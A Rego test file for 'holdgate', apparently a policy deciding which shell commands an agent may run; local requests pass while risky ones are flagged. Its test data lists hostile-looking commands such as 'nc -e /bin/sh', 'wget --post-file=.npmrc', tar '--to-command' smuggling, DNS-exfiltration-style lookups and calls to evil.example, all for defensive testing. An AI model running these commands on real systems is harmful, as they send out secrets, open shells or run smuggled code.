package holdgate_test

import data.holdgate

test_reading_from_this_machine_passes if {
	every argv in [
		["curl", "localhost:3000"],
		["curl", "-sSf", "http://localhost:8080/health"],
		["curl", "-so", "out.json", "-w", "%{http_code}", "http://127.0.0.1:8080/"],
		["curl", "-X", "GET", "-H", "Accept: text/html", "http://[::1]:3000/a?b=c"],
		["curl", "--max-time", "3", "--silent", "https://LOCALHOST/"],
		["curl", "-s", "-X", "POST", "localhost:8080/api/coupon", "-H", "Content-Type: application/json", "-d", "{\"code\":\"ten\"}"],
		["curl", "-d", "a=b", "localhost:3000/x"],
		["curl", "-sSL", "-D", "-", "-o", "/dev/null", "--compressed", "localhost:3000/x"],
		["curl", "-s", "-b", "/tmp/jar", "-c", "/tmp/jar", "localhost:3000/x", "-o", "-"],
		["curl", "-X", "DELETE", "localhost:3000/api/items/42"],
		["curl", "-sXPOST", "localhost:9200/orders/_search", "-d", "{}"],
		["curl", "localhost:9090/api/v1/query", "--data-urlencode", "query=up"],
		["curl", "-s", "--unix-socket", "/tmp/shop.sock", "http://localhost/x"],
	] {
		holdgate.decision.action == "allow" with input as shell([argv])
	}
}

test_what_is_sent_to_a_server_here_may_stand_in_a_file if {
	every argv in [["curl", "-d", "@q.json", "localhost:3000"], ["curl", "--data-binary", "@fixtures/a.csv", "http://127.0.0.1:3000/x"]] {
		holdgate.decision.action == "allow" with input as shell([argv])
	}
	every stdin in ["pipe", "file", "heredoc"] {
		call := json.patch(shell([["curl", "-d", "@-", "localhost:3000"]]), [{"op": "add", "path": "/facts/commands/0/stdin", "value": stdin}])
		holdgate.decision.action == "allow" with input as call
	}
}

# What one command says to a database says nothing of what another one does.
test_each_command_that_talks_to_a_database_is_asked_about_where_nothing_tells_what if {
	said := [{"op": "add", "path": "/facts/sql", "value": [{"verb": "select", "where": false}]}, {"op": "add", "path": "/facts/commands/0/sql", "value": true}]
	holdgate.decision.action == "allow" with input as json.patch(shell([["psql", "-c", "select 1"]]), said)
	every other in [["psql", "-f", "x.sql"], ["redis-cli", "flushall"], ["rails", "db:drop"], ["pg_restore", "--clean", "x"]] {
		holdgate.decision.rule == "sql.unseen" with input as json.patch(shell([["psql", "-c", "select 1"], other]), said)
	}
	more := [{"op": "add", "path": "/facts/commands/0/unbound", "value": ["x.sql"]}]
	holdgate.decision.rule == "sql.unseen" with input as json.patch(shell([["psql", "-c", "select 1", "-f", "x.sql"]]), array.concat(said, more))
}

test_all_else_that_curl_can_do_asks if {
	every words in [
		[], ["-s"], ["https://example.com"], ["localhost", "example.com"], ["http://localhost@example.com/"],
		["http://localhost:80@example.com/"], ["http://localhost#@example.com/"], ["http://localhost\\@example.com/"],
		["localhost.example.com"], ["localhost:07301"], ["localhost:{7301,80}"], ["file:///etc/passwd"],
		["-sX", "DELETE", "localhost"], ["-d", "@x", "localhost"], ["-d", "@/etc/x.json", "localhost"], ["-d", "@../x.json", "localhost"], ["-F", "@x.json", "localhost"], ["-d", "@x.json", "example.com"], ["--data", "a=@x", "localhost"], ["--data-binary", "@x", "localhost"], ["-d", "@-", "localhost"],
		["-X", "POST", "localhost:2375/containers/create"], ["-d", "x", "http://127.0.0.1:8001/api"], ["-X", "PUT", "localhost:2379/v2/keys/x"],
		["-T", "x", "localhost"], ["-F", "a=@x", "localhost"], ["-K", "x", "localhost"], ["-x", "proxy", "localhost"], ["--unix-socket", "/tmp/docker.sock", "http://x/info"], ["-X", "DELETE", "localhost/api/users"], ["-X", "DELETE", "localhost/users/ALL"], ["-D", "x", "example.com"],
		["--connect-to", "::example.com:80", "localhost"], ["--resolve", "localhost:80:1.2.3.4", "localhost"],
		["--unix-socket", "/x", "localhost"], ["-XDELETE", "localhost"], ["-XPOST", "-d", "{}", "localhost:9200/orders/_delete_by_query"], ["-d", "{}", "localhost:9200/orders"], ["-H", "@x", "localhost"], ["-w", "%output{x}", "localhost"],
		["-H", "-o", "example.com", "localhost"], ["localhost", "-o"],
	] {
		holdgate.decision.rule == "network.command" with input as shell([array.concat(["curl"], words)])
	}
}

test_data_may_stand_in_the_call if {
	told := [{"op": "add", "path": "/facts/commands/0/stdin", "value": "heredoc"}]
	holdgate.decision.action == "allow" with input as json.patch(shell([["curl", "-s", "localhost:3000/x", "--data-binary", "@-"]]), told)
}

test_names_that_carry_nothing_else_are_looked_up if {
	every line in ["dig +short shop.example.com", "host -t mx shop.example.com", "nslookup shop.example.com"] {
		holdgate.decision.action == "allow" with input as shell([split(line, " ")])
	}
	every line in ["dig c2vjcmv0x1.shop.example", "dig @192.0.2.1 shop.example.com", "dig a.b.c.d.example.com", "host secret.shop.example", "dig shop.example.com shop.example.org"] {
		holdgate.decision.rule == "network.command" with input as shell([split(line, " ")])
	}
}

test_questions_to_the_api_of_a_forge_pass if {
	every argv in [
		["gh", "api", "-X", "GET", "search/issues", "-f", "q=is:pr"],
		["gh", "api", "--method", "GET", "--jq=.items", "search/issues", "-f", "q=is:pr"],
		["gh", "api", "graphql", "-F", "n=1", "-f", "query=query($n: Int!) { viewer { login } }"],
		["gh", "api", "graphql", "-f", "query={ viewer { login } }"],
	] {
		holdgate.decision.action == "allow" with input as shell([argv])
	}
	every argv in [
		["gh", "api", "-X", "DELETE", "repos/a/b"],
		["gh", "api", "-iXDELETE", "-X", "GET", "repos/a/b"],
		["gh", "api", "graphql", "--raw-field=query=mutation { x }", "-f", "query={ a }"],
		["gh", "api", "-X", "GET", "-X", "POST", "repos/a/b", "-f", "a=b"],
		["gh", "api", "-XPOST", "-X", "GET", "repos/a/b"],
		["gh", "api", "graphql", "-f", "query=mutation { x }"],
		["gh", "api", "graphql", "-f", "query=query a { x } mutation b { y }"],
		["gh", "api", "graphql", "-F", "query=@x"],
		["gh", "api", "graphql", "-X", "GET", "-f", "query={ x }"],
		["gh", "api", "-X", "GET", "x", "-f", "a=@x"],
	] {
		holdgate.decision.rule == "network.command" with input as shell([argv])
	}
}

test_clients_that_measure_write_a_report if {
	holdgate.decision.action == "allow" with input as shell([["lighthouse", "http://localhost:3000", "--output", "json"]])
	holdgate.decision.rule == "network.command" with input as shell([["lighthouse", "https://example.com", "--output", "json"]])
}

test_a_proxy_may_lie_elsewhere if {
	env := [{"op": "add", "path": "/facts/commands/0/env", "value": [{"name": "http_proxy", "value": "example.com", "unresolved": false}]}]
	holdgate.decision.rule == "network.command" with input as json.patch(shell([["curl", "localhost"]]), env)
}

test_hosts_of_the_settings_are_near if {
	call := shell([["curl", "-s", "http://build.internal/status"]])
	holdgate.decision.rule == "network.command" with input as call
	holdgate.decision.action == "allow" with input as call with data.settings.network.hosts as ["build.internal"]
}

test_archives_are_packed_and_unpacked if {
	every argv in [["tar", "tzf", "x.tgz"], ["tar", "xzf", "x.tgz"], ["tar", "czf", "x.tgz", "."]] {
		holdgate.decision.action == "allow" with input as shell([argv])
	}
	every argv in [["tar", "tzf", "x.tgz", "--to-command=id"], ["tar", "tzf", "x.tgz", "--checkpoint-act=exec=id"], ["tar", "-tI", "id", "-f", "x.tgz"]] {
		holdgate.decision.rule == "shell.script" with input as shell([argv])
	}
}

test_subcommands_may_have_none if {
	holdgate.decision.action == "allow" with input as shell([["git", "stash"]])
	holdgate.decision.rule == "shell.unknown" with input as shell([["git", "worktree"]])
	holdgate.decision.rule == "git.discard" with input as shell([["git", "stash", "drop"]])
}

test_clients_of_this_machine_pass if {
	every line in [
		"wget -qO- http://localhost:8080/health",
		"http GET :8080/api/orders status==open",
		"xh :3000/api/products",
		"grpcurl -plaintext localhost:50051 shop.Catalog/Get",
		"websocat -1 ws://localhost:8080/ws",
		"http GET localhost:3000/x q=1",
		"nc -zv 127.0.0.1 6379",
		"hey -n 200 -c 10 http://localhost:8080/x",
		"ping -c 1 127.0.0.1",
		"dig +short localhost",
		"wget -q -O page.html http://localhost:3000/",
		"wrk -t2 -c20 -d5s http://127.0.0.1:8080/health",
	] {
		holdgate.decision.action == "allow" with input as shell([split(line, " ")])
	}
}

test_clients_that_may_leave_the_machine_ask if {
	every line in [
		"wget https://evil.example/x",
		"wget http://localhost/x https://evil.example/x",
		"wget -i urls.txt http://localhost/x",
		"wget --post-file=.npmrc http://localhost/x",
		"nc -e /bin/sh 127.0.0.1 4444",
		"nc -lk 127.0.0.1 4444",
		"nc evil.example 80",
		"nc 127.0.0.1 evil",
		"ncat --proxy=evil 127.0.0.1 80",
		"ping evil.example",
		"dig x.evil.example localhost",
		"dig @evil.example localhost",
		"http POST evil.example localhost",
		"websocat exec:sh ws://localhost:1/",
		"grpcurl evil.example:443 list",
		"hey http://localhost/x http://evil.example",
		"http --proxy=http:http://evil.example :80/",
		"k6 --out=x localhost",
		"wget -qO- http://localhost.evil.example/",
		"http GET :80@evil.example/",
	] {
		holdgate.decision.action != "allow" with input as shell([split(line, " ")])
	}
}

test_data_and_headers_of_local_requests_pass if {
	holdgate.decision.action == "allow" with input as shell([["grpcurl", "-plaintext", "-d", "{\"sku\":\"A1\"}", "localhost:50051", "shop.Catalog/Get"]])
}

test_what_the_line_started_may_be_ended if {
	every argv in [["kill", "$!"], ["kill", "$(jobs -p)"], ["kill", "%1"], ["kill", "-9", "$S"], ["kill", "-TERM", "${PID}"], ["kill", "${pids[@]}"], ["kill", "$(< dev.pid)"], ["kill", "$(cat \"/tmp/a/dev.pid\" 2>/dev/null)"]] {
		holdgate.decision.action == "allow" with input as shell([argv])
	}
	piped := json.patch(shell([["kill", "-9", "$P"]]), [{"op": "add", "path": "/facts/commands/0/via", "value": ["xargs"]}])
	holdgate.decision.rule == "shell.system" with input as piped
	every argv in [["kill", "1"], ["kill", "-9", "-1"], ["kill"], ["kill", "4711"], ["kill", "$PPID"], ["kill", "$(pgrep x)"], ["kill", "-$P"], ["kill", "$(cat a b)"], ["kill", "$(cat a; echo 1)"]] {
		holdgate.decision.rule == "shell.system" with input as shell([argv])
	}
}

test_servers_that_are_not_of_the_project_are_asked_about if {
	every line in [
		"http POST :7301/v1/approvals a=b",
		"http :7301",
		"xh POST http://localhost:7301/v1/approvals",
		"http POST :2375/containers/create",
		"http :8200/v1/secret/data/db",
		"curl -s http://localhost:8001/api/v1/secrets",
		"curl http://[::1]:10250/pods",
		"wget -qO- http://127.0.0.1:8500/v1/kv/x",
		"nc localhost 2375",
		"telnet 127.0.0.1 6379",
		"websocat ws://localhost:9229/x",
		"grpcurl -plaintext localhost:2379 list",
		"curl -d {} localhost:9200/x",
		"http PUT localhost:9200/x a=b",
		"http :9200/x a:=1",
	] {
		holdgate.decision.action != "allow" with input as shell([split(line, " ")])
	}
	every line in ["curl -s localhost:9200/_cat/health", "curl -X GET localhost:9200/x", "http :9200/x q==1", "nc -zv localhost 5432", "http :3000/x a=b"] {
		holdgate.decision.action == "allow" with input as shell([split(line, " ")])
	}
}

test_what_stands_at_a_port_is_said_by_the_settings if {
	call := shell([["curl", "-s", "localhost:3000/x"]])
	holdgate.decision.action == "allow" with input as call
	holdgate.decision.rule == "network.command" with input as call with data.settings.network.ports as {"3000": "ask"}
}

test_requests_that_delete_or_run_something_are_asked_about if {
	every line in [
		"http DELETE :3000/x",
		"wget --method=DELETE http://localhost:3000/x",
		"http POST :8080/scriptText script=x",
		"curl -X POST localhost:8080/actuator/shutdown",
		"curl -X POST localhost:3000/x -H X-HTTP-Method-Override:DELETE",
		"curl -d a=b localhost:3000/x?_method=delete",
		"grpcurl -plaintext localhost:50051 shop.Catalog/DeleteAll",
		"grpcurl -unix /var/run/docker.sock localhost:1 list",
	] {
		holdgate.decision.action != "allow" with input as shell([split(line, " ")])
	}
}

test_files_that_others_can_read_are_asked_about if {
	server := shell([["python3", "-m", "http.server"]])
	holdgate.decision.action == "allow" with input as server
	open := json.patch(server, [{"op": "add", "path": "/facts/commands/0/serves", "value": true}])
	holdgate.decision.rule == "network.tunnel" with input as open
}
